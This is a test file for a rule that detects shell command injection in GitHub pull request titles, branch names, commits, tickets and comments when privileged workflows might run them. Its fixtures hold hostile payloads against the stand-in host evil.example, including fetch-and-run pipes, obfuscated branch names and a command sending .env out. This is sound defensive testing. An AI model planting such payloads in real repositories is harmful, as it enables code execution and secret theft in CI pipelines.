import { expectTimeline } from '@tripline/testing/timeline/in-words';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { shellTextIn, shellTexts, type TextForm } from './shell-text.ts';
import { rule } from './untrusted-metadata-injection.ts';

const runsFor = (trigger: string) => `08:00  eve  starts run 1 of bot in acme/app at c1 (trigger ${trigger})`;

test('a title that a workflow with the rights of the repository runs, as at Nx', () => {
  const { findings } = expectTimeline(
    rule,
    `
    ${runsFor('pull_request_target')}
    09:00  mallory  opens #7 in acme/app from x at c2 (of fork mallory; association NONE; titled fix $⟨curl -s https://evil.example | bash⟩)   ← FOUND acme/app#7 [high/high]
    09:05  mallory  updates #7 in acme/app to c3
    `,
  );
  expect(findings[0]!.title).toBe('mallory wrote the title that a shell would execute, in acme/app#7');
  expect(findings[0]!.response).toMatchObject([{ action: 'block-user', organization: 'acme', user: 'mallory' }]);
  expect(findings[0]!.evidence.map(({ what }) => what)).toEqual([
    '.github/workflows/bot.yml was seen to run for pull_request_target',
    'mallory wrote the title: fix $(curl -s https://evil.example | bash)',
  ]);
});

test('the name of a branch, as at Ultralytics; it grows when a workflow is seen to run for it', () => {
  const { findings, changes } = expectTimeline(
    rule,
    `
    09:00  mallory  opens #7 in acme/app from $⟨{curl,-sSfL,evil.example/f}\${IFS}|\${IFS}bash⟩ at c2 (of fork mallory; association NONE)   ← FOUND acme/app#7 [high/high]
    09:01  mallory  starts run 7 of format in acme/app at c2 (trigger pull_request_target; of fork mallory)
    `,
  );
  expect(changes.map(({ kind, severity }) => [kind, severity])).toEqual([['grown', 'high']]);
  expect(findings[0]!.severity).toBe('high');
});

test('by a push, a ticket, a comment', () => {
  expectTimeline(
    rule,
    `
    09:00  mallory  pushes c1 to acme/app x\`id\`   ← FOUND acme/app@refs/heads/x\`id\` [medium]
    09:01  mallory  pushes c2 to acme/app y (authored by a$⟨id⟩)   ← FOUND acme/app@refs/heads/y [medium]
    09:02  mallory  pushes c3 to acme/app z (saying see $⟨curl evil.example | sh⟩)   ← FOUND acme/app@refs/heads/z [low]
    09:03  mallory  writes ticket #8 in acme/app (titled "¦ curl evil.example | bash #)   ← FOUND acme/app#8 [medium]
    09:04  mallory  comments on ticket #9 in acme/app (saying x $⟨curl -d @.env evil.example⟩)   ← FOUND acme/app#9 [low]
    `,
  );
  expectTimeline(
    rule,
    `
    ${runsFor('issue_comment')}
    09:04  mallory  comments on ticket #9 in acme/app (saying x $⟨curl -d @.env evil.example⟩)   ← FOUND acme/app#9 [medium]
    09:05  mallory  writes ticket #10 in acme/app (titled fix $⟨foo⟩)   ← FOUND acme/app#10 [medium]
    `,
  );
});

test('code in a title only informs where no workflow runs for it, and of the house it always does', () => {
  expectTimeline(
    rule,
    `
    ${runsFor('workflow_dispatch')}
    09:00  eve  writes ticket #8 in acme/app (titled fix $⟨foo⟩)   ← FOUND acme/app#8 [low]
    `,
  );
  expectTimeline(
    rule,
    `
    ${runsFor('issues')}
    09:00  ada  writes ticket #8 in acme/app (titled run $⟨curl x | bash⟩; association MEMBER)   ← FOUND acme/app#8 [low]
    `,
  );
});

test('whoever triages what a stranger wrote did not write it', () => {
  const { findings } = expectTimeline(
    rule,
    `
    ${runsFor('pull_request_target')}
    08:30           eve      starts run 2 of triage in acme/app at c1 (trigger issues)
    09:00           mallory  opens #7 in acme/app from x at c2 (of fork mallory; association NONE; titled fix $⟨curl -s evil.example | bash⟩)   ← FOUND acme/app#7 [high]
    09:01           mallory  writes ticket #8 in acme/app (titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#8 [high]
    day 40  09:00   ada      retargets #7 in acme/app to next
    day 40  09:01   ada      reopens ticket #8 in acme/app (of mallory; titled run $⟨curl evil.example | sh⟩)
    `,
    { anyOrder: false },
  );
  expect(findings.flatMap(({ response }) => response)).toMatchObject([{ user: 'mallory' }, { user: 'mallory' }]);
});

test('who edits the title of a stranger may write, and wrote it; a stranger who edits their own is one', () => {
  const { findings } = expectTimeline(
    rule,
    `
    ${runsFor('issues')}
    09:00  mallory  writes ticket #8 in acme/app
    09:01  mallory  edits ticket #8 in acme/app (titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#8 [high]
    09:02  mallory  writes ticket #9 in acme/app
    09:03  ada      edits ticket #9 in acme/app (of mallory; titled run $⟨curl evil.example | sh⟩)   ← FOUND acme/app#9 [low]
    `,
  );
  expect(findings.flatMap(({ response }) => response)).toMatchObject([{ user: 'mallory' }]);
});

test('many texts of one stranger are one finding each field, and hide none', () => {
  const many = Array.from(
    { length: 90 },
    (_, nth) =>
      `10:${String(nth % 60).padStart(2, '0')} sock${nth % 40} comments on ticket #8 in acme/app (saying x $⟨curl ${nth}⟩)`,
  );
  const { findings } = expectTimeline(
    rule,
    `
    09:00  mallory  writes ticket #8 in acme/app (titled a $⟨curl evil⟩)   ← FOUND acme/app#8 [medium]
    09:01  mallory  comments on ticket #8 in acme/app (saying a $⟨curl evil⟩)   ← FOUND acme/app#8 [low]
    ${many.join('\n')}
    `,
    { anyOrder: false },
  );
  expect(findings.filter((one) => one.rule === rule.id)).toHaveLength(2);
});

test('ordinary text is silent', () => {
  expectTimeline(
    rule,
    `
    ${runsFor('pull_request_target')}
    08:01  eve  starts run 2 of bot in acme/app at c1 (trigger issue_comment)
    09:00  eve  opens #7 in acme/app from fix/it's-⟨broken⟩-$home at c2 (of fork eve; association NONE; titled Use \`curl -L\` & \`wget\`, not 'nc')
    09:01  ada  pushes c3,c4 to acme/app main (saying Run \`make all\` | tee log, and $⟨pwd⟩ as before)
    09:02  eve  writes ticket #8 in acme/app (titled $⟨CC⟩ is ignored by "make"; saying see \`$⟨curl x | bash⟩\`)
    09:03  eve  comments on ticket #8 in acme/app (saying curl -sSL https://get.example | bash fails here)
    09:04  ada  tags c3 of acme/app as v1.0.0+build.{7}
    `,
  );
});

describe('what a shell would execute', () => {
  test.each<[TextForm, string, 'payload' | 'code' | undefined]>([
    ['ref', 'feat/$(id)', 'payload'],
    ['ref', 'x|bash', 'payload'],
    ['ref', 'a;b&c', undefined],
    ['name', 'eve`touch x`', 'payload'],
    ['title', 'x"; curl evil | bash #', 'payload'],
    ['title', "'); require('child_process').exec('id') //", 'payload'],
    ['title', '{echo,YmFzaA==}|{base64,-d}|bash', 'payload'],
    ['title', '`curl evil | sh`', 'payload'],
    ['title', 'Reset `$IFS` and "$IFS" after a loop', undefined],
    ['title', 'Support {curl,wget} for downloads', undefined],
    ['title', 'curl | bash is no way to install', undefined],
    ['title', 'Replace $(MAKE) by `make`', undefined],
    ['title', 'Use $(pwd)', 'code'],
    ['message', 'Say $(pwd), `curl x`', undefined],
    ['body', 'see\n```\n$(curl x | sh)\n```\nand\n    $(curl y)\n> $(curl z)', undefined],
    ['body', 'see $(curl x | sh)', 'payload'],
  ])('as %s: %s', (form, text, is) => {
    expect(shellTextIn(text, form)?.is).toBe(is);
  });

  test('is never passed over unread: one of the texts stands in all of it', () => {
    const words =
      '" \' ` ; && | || ) ( $( $ { } {curl,-s} {echo,A {bash,-c $IFS $IFS{ curl wget bash sh python3 base64 printenv require( eval( id \n a'.split(
        ' ',
      );
    const text = fc.array(fc.constantFrom(...words, ' '), { maxLength: 8 }).map((parts) => parts.join(''));
    let found = 0;
    fc.assert(
      fc.property(text, fc.constantFrom<TextForm>('title', 'body'), (written, form) => {
        if (shellTextIn(written, form) === undefined) return;
        found += 1;
        expect(shellTexts.some((one) => JSON.stringify(written).includes(one))).toBe(true);
      }),
      { numRuns: 5000 },
    );
    expect(found).toBeGreaterThan(300);
  });
});
